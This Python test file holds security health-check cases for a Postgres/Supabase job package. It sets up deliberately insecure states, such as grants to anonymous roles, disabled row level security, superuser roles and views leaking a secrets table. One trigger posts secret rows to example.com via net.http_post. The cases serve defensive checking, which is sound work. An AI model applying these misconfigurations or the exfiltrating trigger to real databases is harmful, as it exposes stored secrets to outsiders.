"""Who may see and do too much."""

from tests.health.actions import SCHEDULES, Action, admin, equals, role, run, sql, tick
from tests.health.checks.case import Case, failed, fine, unseen, warned
from tests.support.health import Project

SECRETS = "public.pg_cron_secrets"
CLAIM = "function public.auto_sync_claim(integer, interval)"
WRAPPER = (
    "create function public.run_sync() returns bigint language sql security definer"
    " set search_path = pg_catalog, pg_temp as 'select autosync.dispatch()';"
    " revoke all on function public.run_sync() from public"
)


def _serves(schemas: str) -> Action[Project]:
    return admin(f"alter role authenticator set pgrst.db_schemas = '{schemas}'")


def _cron_secret(project: Project) -> None:
    project.store(cron_secret="c" * 43)
    project.owner.execute(
        "insert into autosync.setting (name, value) values ('function_auth', jsonb_build_object(%s::text,"
        " 'cron_secret'))",
        [project.job_name],
    )
    project.call()


def _foreign_trigger(when: str, body: str) -> Action[Project]:
    return sql(
        f"create function public.theirs() returns trigger language plpgsql as $$ begin {body} end $$",
        f"create trigger theirs {when} on autosync.invocation for each row execute function public.theirs()",
    )


def _calls(project: Project) -> None:
    for _ in range(3):
        project.value("select autosync.dispatch(%s)", [project.job_name])


def _logs(**settings: str) -> Action[Project]:
    def act(project: Project) -> None:
        for name, value in settings.items():
            # as the superuser, for whom alone some of them can be set
            project.admin.execute("select set_config(%s, %s, true)", [name.replace("__", "."), value])

    return act


_OPENED = {
    "grant select on {} to anon": "anon may select it",
    "alter table {} disable row level security": "row level security is off",
    "create policy readable on {} for select to authenticated using (true)": "lets {authenticated} pass: true",
    "create policy writable on {} for insert to public with check (true)": "writable: lets {public} pass: true",
}

_SHOWS = (
    f"create function public.all_plans() returns setof {SCHEDULES} language sql {{}} set search_path = ''"
    " as $$ {} $$;"
    " grant execute on function public.all_plans() to anon, authenticated"
)
_ORGANIZATIONS = sql(
    "insert into autosync.setting (name, value) values ('isolation', '{\"mode\": \"organization\"}')"
    " on conflict (name) do update set value = excluded.value",
    "create policy auto_sync_schedules_organization on public.auto_sync_schedules to authenticated"
    " using (organization_id = (select auth.uid()))",
)

CASES: dict[str, tuple[Case, ...]] = {
    "api_roles_cannot_reach_private_schema": (
        failed(
            "usage for authenticated",
            sql("grant usage on schema autosync to authenticated"),
            says="schema autosync: authenticated may use it",
            repaired_by="postgres",
        ),
        failed(
            "create for everybody",
            sql("grant create on schema autosync to public"),
            says="schema autosync: everybody may create objects in it",
            repaired_by="postgres",
        ),
        failed(
            "all for the role of the function",
            sql("grant all on schema autosync to service_role"),
            says="schema autosync: service_role may create objects in it",
            repaired_by="postgres",
        ),
        warned(
            "a function for the role of the function",
            sql("grant execute on function autosync.read_secret(text) to service_role"),
            says="function autosync.read_secret: service_role may execute it",
            repaired_by="postgres",
        ),
        warned(
            "a grant on a table behind the shut door",
            sql("grant select on autosync.invocation to anon"),
            says="table autosync.invocation: anon may select it",
        ),
        fine("the Data API serves another schema", _serves("public")),
        fine(
            "a role of the project looks at the ledger",
            admin(
                "create role reporting nologin; grant usage on schema autosync to reporting;"
                " grant select on autosync.job, autosync.tick, autosync.invocation to reporting"
            ),
        ),
    ),
    "functions_not_exposed": (
        *(
            failed(
                f"the claim function is open to {who}",
                sql(f"grant execute on {CLAIM} to {who}"),
                says="may execute it",
                repaired_by="postgres",
            )
            for who in ("authenticated", "public")
        ),
        warned(
            "a function of the project is open to those who logged in",
            sql(WRAPPER, "grant execute on function public.run_sync() to authenticated"),
            says="authenticated may execute it",
        ),
        fine("nobody may execute the function of the project", sql(WRAPPER)),
        fine(
            "a private function in a schema that is shut",
            sql("grant execute on function autosync.read_secret(text) to authenticated"),
        ),
        failed(
            "a private function in a schema that was opened",
            sql(
                "grant execute on function autosync.read_secret(text) to authenticated",
                "grant usage on schema autosync to authenticated",
            ),
            says="function autosync.read_secret",
        ),
        fine(
            "functions that reach nothing, or work with their caller's rights",
            sql(
                "create function public.hello() returns text language sql security definer"
                " set search_path = pg_catalog, pg_temp as $$ select 'hello' $$",
                "create function public.asks() returns bigint language sql set search_path = ''"
                " as 'select autosync.dispatch()'",
                "grant execute on function public.hello(), public.asks() to anon",
            ),
        ),
    ),
    "isolation_chosen": (
        fine("the policies are the package's own"),
        warned(
            "policies were kept and no mode was chosen",
            sql(
                "insert into autosync.setting (name, value) values ('isolation', '{\"mode\": \"custom\"}'),"
                " ('isolation_undecided', 'true') on conflict (name) do update set value = excluded.value",
                f'create policy "Auditors may look" on {SCHEDULES} for select to authenticated using (true)',
            ),
            says="Auditors may look",
        ),
    ),
    "pg_net_not_exposed": (
        *(
            failed(
                f"the Data API serves {schema}",
                _serves(f"public, {schema}"),
                says=f"setting pgrst.db_schemas of authenticator: serves the schema {schema}",
                repaired_by="supabase_admin",
            )
            for schema in ("net", "cron")
        ),
        fine("the Data API serves schemas of other names", _serves("public, graphql_public, network")),
        failed(
            "a setting of the database serves it",
            admin("alter database postgres set pgrst.db_schemas = '\"net\"'"),
            says="of the database: serves the schema net",
        ),
        warned(
            "a role may log in and read the queue",
            role("reporting"),
            says="role reporting: may log in and read net.http_request_queue",
        ),
        warned(
            "and a secret of little worth would be no fault",
            role("reporting"),
            says='auth = "cron_secret" would send one of little worth',
        ),
        fine("it may become the owner of the secrets", role("deploy", "grant postgres to deploy")),
        fine("it may not log in", role("reporting"), admin("alter role reporting nologin")),
        fine("it reads a cron secret and no key", role("reporting"), _cron_secret, says="role reporting: may log in"),
        fine(
            "roles of the platform, and superusers",
            admin(
                *(
                    f"create role {name} login"
                    for name in ("supabase_auth_admin", "supabase_storage_admin", "cli_login_postgres", "pgbouncer")
                ),
                "create role boss login superuser",
            ),
        ),
        unseen("pg_net is missing", admin("drop extension pg_net"), blocked_by=("pg_net_installed",)),
    ),
    "schedules_table_protected": (
        *(
            failed(fault.format("it"), sql(fault.format(SCHEDULES)), says=says, repaired_by="postgres")
            for fault, says in {
                **_OPENED,
                "grant all on {} to authenticated": "authenticated may delete, insert",
                "grant truncate on {} to public": "everybody may truncate it",
                "grant update (next_run_at, enabled) on {} to authenticated": "authenticated may write next_run_at,",
                "alter policy auto_sync_schedules_nobody on {} using (true)": "_nobody: lets {public}",
            }.items()
        ),
        *(
            failed(fault, admin(fault), says=says, reason=reason, explains=explains, repaired_by="supabase_admin")
            for fault, says, reason, explains in (
                ("alter role authenticated bypassrls", "role authenticated: has BYPASSRLS", "bypass", ()),
                ("alter role anon superuser", "role anon: is a superuser", "superuser", ()),
                (
                    "grant service_role to authenticated",
                    "role authenticated: is a member of service_role: as that it passes row level security",
                    "member",
                    ("secrets_table_protected",),
                ),
                (
                    "create role middle; grant service_role to middle; grant middle to anon",
                    "role anon: is a member of middle",
                    "member",
                    ("secrets_table_protected",),
                ),
                (
                    "revoke anon from postgres; grant postgres to anon",
                    "role anon: is a member of postgres",
                    "member",
                    ("secrets_table_protected",),
                ),
            )
        ),
        fine(
            "roles of the project's own that pass nothing",
            admin(
                "create role readers; grant readers to authenticated",
                "create role bypassing bypassrls; grant authenticated to bypassing",
            ),
        ),
        failed(
            "a view that shows the rows, and one on it",
            sql(
                f"create view public.plans as select * from {SCHEDULES}",
                "revoke all on public.plans from anon, authenticated",
                "create view public.next_plans as select id, next_run_at from public.plans",
                "grant select on public.next_plans to anon",
            ),
            says="view public.next_plans: anon",
            repaired_by="postgres",
        ),
        warned(
            "a function that shows the rows",
            sql(_SHOWS.format("security definer", f"select * from {SCHEDULES}")),
            says="function public.all_plans(): anon and authenticated may execute it",
        ),
        fine(
            "a view and functions that ask who the user is, or have their caller's rights",
            sql(
                f"create view public.mine as select * from {SCHEDULES} as s where s.created_by = auth.uid()",
                f"create view public.own with (security_invoker = true) as select * from {SCHEDULES}",
                "grant select on public.mine, public.own to anon",
                "create schema closed",
                f"create view closed.plans as select * from {SCHEDULES}; grant select on closed.plans to anon",
                _SHOWS.format("security invoker", f"select * from {SCHEDULES}"),
                _SHOWS.replace("all_plans", "my_plans").format(
                    "security definer", f"select * from {SCHEDULES} where created_by = auth.uid()"
                ),
            ),
        ),
        fine(
            "nobody of the API is let in",
            admin("create role reporting nologin", f"grant select on {SCHEDULES} to reporting"),
            sql(
                f"create policy shut on {SCHEDULES} for select to anon using (false)",
                f"create policy narrow on {SCHEDULES} as restrictive for select to public using (true)",
                f"create policy service on {SCHEDULES} for select to service_role using (true)",
            ),
        ),
    ),
    "private_schema_is_ours": (
        failed(
            "an overload of what jobs call",
            sql("create function autosync.dispatch(job_name varchar) returns int language sql as 'select 0'"),
            says="function autosync.dispatch: autosync.dispatch(character varying) of the role postgres has the name",
            explains=("search_path_pinned", "objects_current"),
            repaired_by="postgres",
            then=equals(3, "select count(*) from pg_proc where proname = 'dispatch'"),
        ),
        failed(
            "an overload of what functions call",
            sql("create function public.auto_sync_claim(batch_size integer) returns int language sql as 'select 1'"),
            says="function public.auto_sync_claim: public.auto_sync_claim(integer) of the role postgres",
            repaired_by="postgres",
        ),
        failed(
            "the schema of a role that is not ours",
            admin("create role outsider; alter schema autosync owner to outsider"),
            says="schema autosync: belongs to the role outsider, which can put anything in the place of what postgres",
            repaired_by="supabase_admin",
            then=equals("postgres", "select nspowner::regrole::text from pg_namespace where nspname = 'autosync'"),
        ),
        failed(
            "a table of a role that is not ours",
            admin("alter table autosync.invocation owner to supabase_admin"),
            run("failed", "ERROR:  permission denied for table invocation"),
            says="table autosync.invocation: belongs to the role supabase_admin, not to postgres, as whom",
            explains=("job_runs_succeed",),
            repaired_by="supabase_admin",
            then=equals("postgres", "select relowner::regrole::text from pg_class where relname = 'invocation'"),
        ),
        warned(
            "a table of another role, which lets us use it",
            admin(
                "create role keeper; alter table autosync.tick owner to keeper",
                "grant all on autosync.tick to postgres",
            ),
            says="table autosync.tick: belongs to the role keeper",
            repaired_by="supabase_admin",
        ),
        fine(
            "a table of a role that we belong to",
            admin("create role keeper; grant keeper to postgres; alter table autosync.tick owner to keeper"),
        ),
        *(
            failed(
                f"the {kind} {name} of a role of the Data API",
                admin(f"alter {kind} {name} owner to {role}"),
                says=f"{kind} {name.partition('(')[0]}: belongs to the role {role}, not to postgres{danger}",
                explains=explains,
                repaired_by="postgres",
            )
            for kind, name, role, danger, explains in (
                ("table", "public.pg_cron_secrets", "anon", ": whoever works as that role through the Data API", ()),
                ("table", "public.auto_sync_schedules", "service_role", ": whoever works as that role", ()),
                ("function", "autosync.dispatch(text,boolean)", "anon", ", so it works with", ("objects_current",)),
            )
        ),
        failed(
            "the secrets of a superuser",
            admin("alter table public.pg_cron_secrets owner to supabase_admin"),
            says="table public.pg_cron_secrets: belongs to the role supabase_admin",
            repaired_by="supabase_admin",
        ),
        warned(
            "a function of a superuser",
            admin("alter function autosync.settle() owner to supabase_admin"),
            says="function autosync.settle: belongs to the role supabase_admin",
            repaired_by="supabase_admin",
        ),
        *(
            failed(
                f"the owner took away from itself what it needs of the {thing}",
                admin(f"revoke {privilege} on {thing} from postgres"),
                run("failed", "ERROR:  permission denied"),
                says=f"the role postgres, as whom the functions work, may not {privilege} it",
                explains=("job_runs_succeed",),
                repaired_by="postgres",
                then=tick,
            )
            for privilege, thing in (
                ("insert", "table autosync.invocation"),
                ("execute", "function autosync.dispatch()"),
            )
        ),
        fine("others may not", admin("revoke all on autosync.invocation from service_role")),
        fine("the schema of who owns the database", admin("alter schema autosync owner to supabase_admin")),
        warned(
            "a function and an operator of somebody's",
            sql(
                "create function autosync.same(text, text) returns boolean language sql as 'select true'",
                "create operator autosync.= (leftarg = text, rightarg = text, function = autosync.same)",
            ),
            says="operator autosync.=: autosync.=(text,text) of the role postgres is not of this package",
            repaired_by="postgres",
        ),
        *(
            failed(
                f"a {what} swallows the ledger",
                *made,
                says=f"{what} invocation.theirs: theirs on autosync.invocation of the role postgres is not of this",
                explains=explains,
                repaired_by="postgres",
            )
            for what, made, explains in (
                (
                    "rule",
                    (sql("create rule theirs as on insert to autosync.invocation do instead nothing"), _calls),
                    ("outcomes_recorded",),
                ),
                ("trigger", (_foreign_trigger("before insert", "return null;"), _calls), ("outcomes_recorded",)),
            )
        ),
        warned(
            "a trigger that copies the ledger",
            _foreign_trigger("after insert", "return null;"),
            says="trigger invocation.theirs: theirs on autosync.invocation of the role postgres is not of this package",
            repaired_by="postgres",
        ),
        fine(
            "a function of the project, elsewhere",
            sql("create function public.dispatch(job_name varchar) returns bigint language sql as 'select 0::bigint'"),
        ),
        fine("ours are applied again", sql("select autosync.sync_job('autosync-keep-house')")),
    ),
    "search_path_pinned": (
        warned(
            "a function with its caller's rights",
            sql("alter function autosync.is_time_zone(text) reset all"),
            says="autosync.is_time_zone: its caller decides",
        ),
        failed(
            "a function of the project reads the secrets",
            sql(
                "create function public.peek() returns text language sql security definer"
                f" as 'select secret from {SECRETS} limit 1'",
                "revoke all on function public.peek() from public, anon, authenticated",
            ),
            says="function public.peek: works with its owner's rights",
        ),
        *(
            case(
                what,
                sql(
                    f"create function public.peek() returns text language sql security definer set search_path = {path}"
                    f" as 'select secret from {SECRETS} limit 1'",
                    "revoke all on function public.peek() from public, anon, authenticated",
                ),
                says=says,
            )
            for case, what, path, says in (
                (warned, "its path is empty", "''", "temporary types are found first"),
                (fine, "its path ends with temporary objects", "pg_catalog, pg_temp", ""),
            )
        ),
        fine(
            "its path was set by a session that quotes each name",
            sql(
                "set local quote_all_identifiers = on",
                "create function public.peek() returns text language sql security definer set search_path = pg_catalog,"
                f" pg_temp as 'select secret from {SECRETS} limit 1'",
                "revoke all on function public.peek() from public, anon, authenticated",
            ),
        ),
        warned(
            "its path ends with another schema",
            sql(
                'create schema "x_pg_temp"; create function public.peek() returns text language sql security definer'
                f" set search_path = pg_catalog, x_pg_temp as 'select secret from {SECRETS} limit 1'",
                "revoke all on function public.peek() from public, anon, authenticated",
            ),
            says="temporary types are found first",
        ),
        fine(
            "a function of the project that reads nothing of ours",
            sql("create function public.mine() returns integer language sql security definer as 'select 1'"),
        ),
    ),
    "secrets_table_protected": (
        *(
            failed(fault.format("it"), sql(fault.format(SECRETS)), says=says, repaired_by="postgres")
            for fault, says in {
                **_OPENED,
                "grant all on {} to public": "everybody may delete, insert",
                "grant select (secret) on {} to authenticated": "authenticated may select (secret) it",
            }.items()
        ),
        failed(
            "a view of a view shows it",
            sql(
                f"create view public.peek as select secret from {SECRETS}",
                "create view public.peek_again as select * from public.peek",
                "grant select on public.peek_again to anon",
            ),
            says="view public.peek_again: anon may select it",
            repaired_by="postgres",
        ),
        failed(
            "a publication sends it",
            sql(f"create publication everything for table {SECRETS}"),
            says=f"publication everything: sends {SECRETS}",
            repaired_by="postgres",
        ),
        *(
            failed(
                f"a trigger copies it: {how}",
                sql(
                    "create table public.log (id bigserial, entry jsonb)",
                    "create function public.log() returns trigger language plpgsql as"
                    f" $$ begin {how}; return new; end $$",
                    f"create trigger log after update on {SECRETS} for each row execute function public.log()",
                ),
                says="trigger log: hands each secret that is stored to public.log(), which writes it elsewhere",
                repaired_by="postgres",
                then=equals(True, "select to_regclass('public.log') is not null"),
            )
            for how in (
                "insert into public.log (entry) values (to_jsonb(new))",
                "INSERT INTO public.log (entry) SELECT jsonb_build_object('was', old.secret)",
                "perform net.http_post('https://example.com', to_jsonb(NEW))",
                "perform pg_notify('changes', row_to_json(new)::text)",
            )
        ),
        fine(
            "a trigger notes the time, and another one that something changed",
            sql(
                "create table public.log (id bigserial, entry text)",
                "create function public.touch() returns trigger language plpgsql as"
                " $$ begin new.updated_at := now(); /* insert into log values (new.secret) */ return new; end $$",
                "create function public.log() returns trigger language plpgsql as"
                " $$ begin insert into public.log (entry) values (new.name || ' was set'); return new; end $$",
                f"create trigger touch before update on {SECRETS} for each row execute function public.touch()",
                f"create trigger log after update on {SECRETS} for each row execute function public.log()",
            ),
        ),
        fine(
            "nobody else can read it",
            sql(
                f"create policy shut on {SECRETS} for select to anon using (false)",
                f"create policy narrow on {SECRETS} as restrictive for select to public using (true)",
                f"create policy service on {SECRETS} for select to service_role using (true)",
                f"grant select on {SECRETS} to service_role",
                f"create view public.own as select name from {SECRETS}",
                f"create view public.invoker with (security_invoker = true) as select name from {SECRETS}",
                "grant select on public.invoker to anon",
            ),
        ),
    ),
    "server_log_hides_secrets": (
        *(
            warned(", ".join(settings), _logs(**settings), says=f"setting {says}", role="supabase_admin")
            for settings, says in (
                ({"log_min_messages": "debug2"}, "log_min_messages: is debug2"),
                ({"debug_print_plan": "on"}, "debug_print_plan: is on"),
                (
                    {"auto_explain__log_min_duration": "1s", "auto_explain__log_verbose": "on",
                     "auto_explain__log_nested_statements": "on"},
                    "auto_explain.log_verbose: is on with log_nested_statements: of statements inside our functions",
                ),
                (
                    {"auto_explain__log_min_duration": "1s", "auto_explain__log_nested_statements": "on",
                     "auto_explain__log_parameter_max_length": "-1"},
                    "auto_explain.log_parameter_max_length: is not 0 with log_nested_statements: of statements inside",
                ),
                ({"pgaudit__log": "write", "pgaudit__log_parameter": "on"}, "pgaudit.log_parameter: is on"),
                ({"log_statement": "mod"}, "log_statement: is mod: a secret that somebody writes by SQL"),
                ({"log_statement": "all"}, "log_statement: is all"),
                ({"log_min_duration_statement": "0"}, "log_min_duration_statement: is 0"),
            )
        ),
        fine(
            "settings that log no value",
            _logs(
                log_statement="ddl", log_min_duration_statement="1s", log_min_messages="debug1", log_duration="on",
                auto_explain__log_min_duration="1s", auto_explain__log_nested_statements="on",
                auto_explain__log_verbose="", auto_explain__log_parameter_max_length="0", pgaudit__log="none",
                pgaudit__log_parameter="on",
            ),
            role="supabase_admin",
        ),
        fine(
            "auto_explain is off",
            _logs(
                auto_explain__log_min_duration="-1", auto_explain__log_verbose="on",
                auto_explain__log_nested_statements="on",
            ),
            role="supabase_admin",
        ),
        warned(
            "two settings, in the order of their names",
            _logs(log_statement="all", debug_print_plan="on"),
            says="with secrets as bytes | setting log_statement: is all",
            role="supabase_admin",
        ),
    ),
    "integrations_tied_to_organizations": (
        warned(
            "nothing says whose an integration is",
            _ORGANIZATIONS,
            says="neither the policy nor a foreign key ties the two",
        ),
        fine(
            "a foreign key says it",
            _ORGANIZATIONS,
            sql(
                "create table public.things (id uuid, organization_id uuid, unique (id, organization_id))",
                "alter table public.auto_sync_schedules add foreign key (integration_id, organization_id)"
                " references public.things (id, organization_id)",
            ),
        ),
        fine("another mode", sql("delete from autosync.setting where name = 'isolation'")),
    ),
}  # fmt: skip
